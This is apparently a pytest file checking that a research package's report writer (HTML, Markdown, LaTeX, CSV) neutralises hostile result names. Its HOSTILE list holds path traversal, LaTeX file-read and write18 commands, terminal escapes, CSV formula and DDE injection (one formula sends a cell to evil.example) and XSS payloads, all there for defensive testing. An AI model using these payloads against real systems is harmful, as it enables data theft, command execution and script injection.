"""Reports of results that others wrote: in buckets, and with hostile names."""

import csv
import html.parser
import json
import re

import pytest

from instructrec_jax.errors import InputError
from instructrec_jax.eval.recording import examples, results
from instructrec_jax.report import command
from tests import bucket
from tests.report.toy_results import evaluated

_ENDS = (".html", ".md", ".tex", ".csv")
# What a name may hold that does something where it is shown, or names a file.
HOSTILE = (
  "../../../escaped",
  "/tmp/escaped",
  "x\n\\input{/etc/passwd}",
  "x\r\\immediate\\write18{id}",
  "x^^M\\input{/etc/passwd}",
  "$\\input{/etc/passwd}$ % }",
  "\x1b]0;title\x07\x1b[2J\x1b[31mred",
  "\x9b31mred\x90q",
  "\u202egnp.exe\u2066\u2028next\u2029\u0085",
  "half \ud800 pair",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "![x](http://evil.example/x.png) [x](javascript:alert(1))",
  "a | b ` c\n| d | e |\n\n# heading",
  "\0null",
)  # fmt: skip


class _Page(html.parser.HTMLParser):
  """Refuses what runs or is fetched from elsewhere."""

  def handle_starttag(self, tag, attrs):
    assert tag not in ("script", "img", "iframe", "object", "a"), tag
    for name, value in attrs:
      assert not name.startswith("on"), name
      assert name not in ("src", "href") or value.startswith("#"), value


def _renamed(folder, **texts):
  path = folder / results.METRICS_FILE
  path.write_text(json.dumps(json.loads(path.read_text()) | texts))


def _hostile(folder, name, number, **more):
  """Writes a result that has a hostile text wherever it can have one."""
  evaluated(folder, f"system {number}", number)
  _renamed(folder, system=name, task=name, procedure=name,
           skipped={name: 3}, **more)  # fmt: skip
  row = {"inputs": name, "candidates": [name] * 10}
  path = folder / examples.EXAMPLES_FILE
  rows = [{"instance": instance, **row} for instance in range(60)]
  path.write_text("".join(json.dumps(each) + "\n" for each in rows))
  return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
  """Everything that is written of results with hostile names everywhere."""
  top = tmp_path_factory.mktemp("hostile")
  folders = [
    _hostile(top / f"in{number}", name, 1, dataset=name)
    for number, name in enumerate(HOSTILE)
  ]
  out = top / "deep" / "out"
  ends = [end for end in _ENDS if end != ".html"]
  said = command.report(
    folders, [out / f"r{end}" for end in ends], trec_dir=out / "trec"
  )
  # A page takes seconds to draw, so one has them all.
  together = [
    _hostile(
      top / f"page{n}",
      " ".join(HOSTILE[n::3]),
      n,
      dataset="".join(HOSTILE[:19]),
    )
    for n in range(3)
  ]
  command.report(together, [out / "r.html"])
  return top, out, said


def test_no_file_leaves_the_folder(hostile):
  top, out, _ = hostile
  names = {path.name for path in top.rglob("*") if path.is_file()}
  written = {path.name for path in out.rglob("*") if path.is_file()}
  assert names - written == {
    results.METRICS_FILE, results.PREDICTIONS_FILE, examples.EXAMPLES_FILE
  }  # fmt: skip
  trec = [*(out / "trec").iterdir()]
  assert len(trec) == 2 * len(HOSTILE)
  for path in trec:
    assert re.fullmatch(r"[\w@=-][\w.@=-]*\.(qrels|run)", path.name)


def test_no_control_character_is_shown(hostile):
  _, out, said = hostile
  shown = [said, *((out / f"r{end}").read_text() for end in _ENDS)]
  for text in shown:
    found = re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066]", text)
    assert not found


def test_latex_has_no_command_of_others(hostile):
  _, out, _ = hostile
  for line in (out / "r.tex").read_text().split("\n"):
    if not line.startswith("%"):
      assert not re.search(r"\\(input|immediate|write)", line)
      assert not re.search(r"(?<!\\)[%$](?!\^\{\*\}\$)", line), line
  assert "\\begin{tabular}" in (out / "r.tex").read_text()


def test_a_spreadsheet_computes_nothing(hostile):
  _, out, _ = hostile
  with (out / "r.csv").open(newline="") as f:
    rows = [*csv.DictReader(f)]
  assert rows
  for row in rows:
    for name in ("dataset", "system", "task", "split", "slice", "of", "metric"):
      assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
    float(row["value"])  # Numbers are not quoted.


def test_pages_run_and_fetch_nothing(hostile):
  _, out, _ = hostile
  _Page().feed((out / "r.html").read_text())
  shown = (out / "r.md").read_text()
  for found in re.finditer(r"<[A-Za-z/!?]|!?\[|\]\(", shown):
    assert shown[found.start() - 1] == "\\", found


def test_a_table_keeps_its_columns(hostile):
  _, out, _ = hostile
  rows = [
    re.sub(r"\\.", "", line).count("|")
    for line in (out / "r.md").read_text().split("\n")
    if line.startswith("|")
  ]
  assert len(rows) == 4 * len(HOSTILE)
  assert len(set(rows)) == 1


def test_reports_of_a_bucket_go_to_a_bucket(tmp_path, monkeypatch):
  folders = [evaluated(tmp_path / "b" / f"in{n}", f"s{n}", n) for n in range(2)]
  log = tmp_path / "b" / "metrics.jsonl"
  log.write_text('{"step": 1, "loss": 2.0}\n{"step": 2, "loss": 1.0}\n')
  ends = [end for end in _ENDS if end != ".html"]
  here = command.report(
    folders, [tmp_path / f"r{end}" for end in ends], training_log=log,
    trec_dir=tmp_path / "trec",
  )  # fmt: skip
  bucket.make(tmp_path, monkeypatch)
  there = command.report(
    ["gs://b"], [f"gs://b/out/r{end}" for end in _ENDS],
    training_log="gs://b/metrics.jsonl", trec_dir="gs://b/out/trec",
  )  # fmt: skip
  assert there == here
  for path in (tmp_path / "trec").iterdir():
    other = tmp_path / "b" / "out" / "trec" / path.name
    assert other.read_text() == path.read_text()
  for end in ends:
    other = tmp_path / "b" / "out" / f"r{end}"
    assert other.read_text() == (tmp_path / f"r{end}").read_text()
  assert (tmp_path / "b" / "out" / "r.html").stat().st_size > 10_000


def test_what_a_bucket_lacks_is_named(tmp_path, monkeypatch):
  bucket.make(tmp_path, monkeypatch)
  with pytest.raises(InputError, match=r"gs://b/x/metrics\.json: no such file"):
    command.report(["gs://b/x"])
  evaluated(tmp_path / "b" / "in", "s", 1)
  with pytest.raises(InputError, match=r"gs://b/log: expected a file with a"):
    command.report(["gs://b/in"], training_log="gs://b/log")


def test_systems_measured_by_other_metrics_are_measured_alike(tmp_path):
  folders = [evaluated(tmp_path / name, name, 1) for name in ("a", "b")]
  row = json.loads((folders[1] / results.METRICS_FILE).read_text())
  for field in ("metrics", "chance"):
    row[field] = {name: row[field][name] for name in ("mrr", "hr@1")}
  _renamed(folders[1], **row)
  table = command.report(folders)
  assert "NDCG@5" in table
  assert len(re.findall(r"^[ab] ", table, flags=re.MULTILINE)) == 2


def test_metrics_of_a_huge_k_are_refused(tmp_path):
  folder = evaluated(tmp_path / "a", "a", 1)
  with pytest.raises(InputError, match="unknown metric 'ndcg@99999999999'"):
    command.report([folder], metrics=["ndcg@99999999999"])
